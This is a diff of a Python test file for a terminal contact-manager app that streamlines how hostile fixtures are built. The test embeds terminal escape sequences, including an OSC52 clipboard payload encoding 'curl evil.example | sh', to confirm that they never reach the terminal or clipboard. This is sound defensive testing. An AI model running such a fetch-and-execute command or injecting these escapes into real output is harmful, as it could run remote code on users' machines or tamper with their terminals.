@@ -11,10 +11,9 @@ import base64
 from datetime import timedelta
 
 from board.clipboard import osc52
-from board.model import Contact, Kind, Stage, new_id
+from board.model import Kind, Stage
 from board.text import has_controls
-from tests.conftest import FIXED_NOW
-from tests.helpers import palette_choice, screen_text, wait_until
+from tests.helpers import FIXED_NOW, add, palette_choice, screen_text, wait_until
 
 OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
 OSC0 = "\x1b]0;pwned\x07"
@@ -27,14 +26,11 @@ HOSTILE = OSC52 + OSC0 + OSC8 + CSI + C1 + BIDI
 
 def _hostile(store, stage=Stage.MET, days_ago=30):
     when = FIXED_NOW - timedelta(days=days_ago)
-    contact = store.add_contact(
-        Contact(
-            id=new_id(), name=f"Zed{HOSTILE} Evil", company=f"Acme{CSI}", title=f"Boss{OSC0}",
-            stage=stage, tags=[f"bni{C1}"], expertise=[f"estate law{OSC8}"],
-            needs=f"more clients{BIDI}", met_at=f"BNI breakfast{OSC52}", notes=f"line one{CSI}\nline two{OSC0}",
-            created_at=when, updated_at=when, stage_changed_at=when,
-        )
-    ).contact
+    contact = add(
+        store, f"Zed{HOSTILE} Evil", at=when, company=f"Acme{CSI}", title=f"Boss{OSC0}",
+        stage=stage, tags=[f"bni{C1}"], expertise=[f"estate law{OSC8}"],
+        needs=f"more clients{BIDI}", met_at=f"BNI breakfast{OSC52}", notes=f"line one{CSI}\nline two{OSC0}",
+    )
     store.log(contact.id, Kind.CALL, f"talked about {HOSTILE}", at=when)
     return contact
 
@@ -48,10 +44,7 @@ def assert_clean(app, where: str) -> None:
 
 async def test_hostile_names_never_reach_the_terminal_or_the_clipboard(store, make_app):
     zed = _hostile(store)
-    store.add_contact(
-        Contact(id=new_id(), name="Di Lawyer", stage=Stage.TRUSTED, expertise=["estate law"],
-                created_at=FIXED_NOW, updated_at=FIXED_NOW, stage_changed_at=FIXED_NOW)
-    )
+    add(store, "Di Lawyer", at=FIXED_NOW, stage=Stage.TRUSTED, expertise=["estate law"])
     app = make_app(store)
     async with app.run_test(size=(120, 40), notifications=True) as pilot:
         await pilot.pause()
